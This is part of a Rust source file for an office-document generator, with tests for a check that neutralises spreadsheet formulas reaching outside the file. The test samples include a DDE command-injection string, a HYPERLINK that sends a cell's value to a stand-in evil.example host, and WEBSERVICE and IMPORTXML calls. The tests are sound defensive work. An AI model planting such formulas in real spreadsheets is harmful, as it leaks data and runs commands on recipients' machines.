        "<!DOCTYPE html>\n<html><head><meta charset=\"utf-8\"><meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'; style-src 'unsafe-inline'\"><title>Report</title></head>\n<body>\n{body}</body></html>\n"
    )
    .into_bytes()
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used)]

    use super::*;

    #[test]
    fn formulas_that_reach_out_are_recognized() {
        for f in [
            "=HYPERLINK(\"http://evil\",\"x\")",
            "=hyperlink (\"x\")",
            "=WEBSERVICE(\"http://x\")",
            "=cmd|' /C calc'!A0",
            "=[other.xlsx]Sheet1!A1",
            "=IF(1,IMPORTXML(\"u\",\"//a\"))",
        ] {
            assert!(formula_reaches_out(f), "{f}");
        }
        for f in ["=SUM(B2:B3)", "=A1*2", "=MYHYPERLINK2(1)", "=\"HYPERLINK\""] {
            assert!(!formula_reaches_out(f), "{f}");
        }
    }

    fn sheet_xml(bytes: &[u8]) -> String {
        use std::io::Read as _;
        let mut z = zip::ZipArchive::new(Cursor::new(bytes)).unwrap();
        let mut text = String::new();
        z.by_name("xl/worksheets/sheet1.xml")
            .unwrap()
            .read_to_string(&mut text)
            .unwrap();
        text
    }

    #[test]
    fn a_reaching_formula_from_a_tainted_run_is_written_as_text() {
        let wb = crate::spec::Workbook::parse(&serde_json::json!({"sheets": [{"name": "S", "rows": [
            [{"formula": "=HYPERLINK(\"http://evil.example/?\"&A2,\"click\")"}, {"formula": "=1+1"}],
            ["=HYPERLINK(\"http://evil.example\")", 2]
        ]}]}))
        .unwrap();
        // Tainted: the reaching formula is a string cell, the arithmetic one stays a formula,
        // and a plain string that looks like a formula was never anything but a string.
        let (bytes, n) = xlsx(&wb.sheets, true).unwrap();
        let xml = sheet_xml(&bytes);
        assert_eq!(n.cells, vec!["S!A1".to_owned()]);
        assert_eq!(xml.matches("<f>").count(), 1, "{xml}");
        assert!(xml.contains("<f>1+1</f>"), "{xml}");
        // The control: from a run that saw nothing untrusted, the formula is a formula.
        let (bytes, n) = xlsx(&wb.sheets, false).unwrap();
        assert!(n.cells.is_empty());
        assert_eq!(sheet_xml(&bytes).matches("<f>").count(), 2);
    }

    #[test]
    fn the_same_spec_makes_the_same_bytes() {
        let deck = crate::spec::Deck::parse(&serde_json::json!({"slides": [
            {"title": "A", "bullets": ["x"], "notes": "n"},
            {"title": "B", "table": [["h"], [1]]}
        ]}))
        .unwrap();
        assert_eq!(pptx(&deck).unwrap(), pptx(&deck).unwrap());
        let doc = crate::spec::Document::parse(&serde_json::json!({"title": "T", "blocks": [
            {"heading": "H"}, {"numbered": ["a", "b"]}
        ]}))
        .unwrap();
        assert_eq!(docx(&doc).unwrap(), docx(&doc).unwrap());
        let wb = crate::spec::Workbook::parse(&serde_json::json!({"sheets": [
            {"name": "S", "rows": [["a", 1, true, null, {"formula": "=B1*2"}]]}
        ]}))
        .unwrap();
        assert_eq!(
            xlsx(&wb.sheets, false).unwrap(),
            xlsx(&wb.sheets, false).unwrap()
        );
    }
}
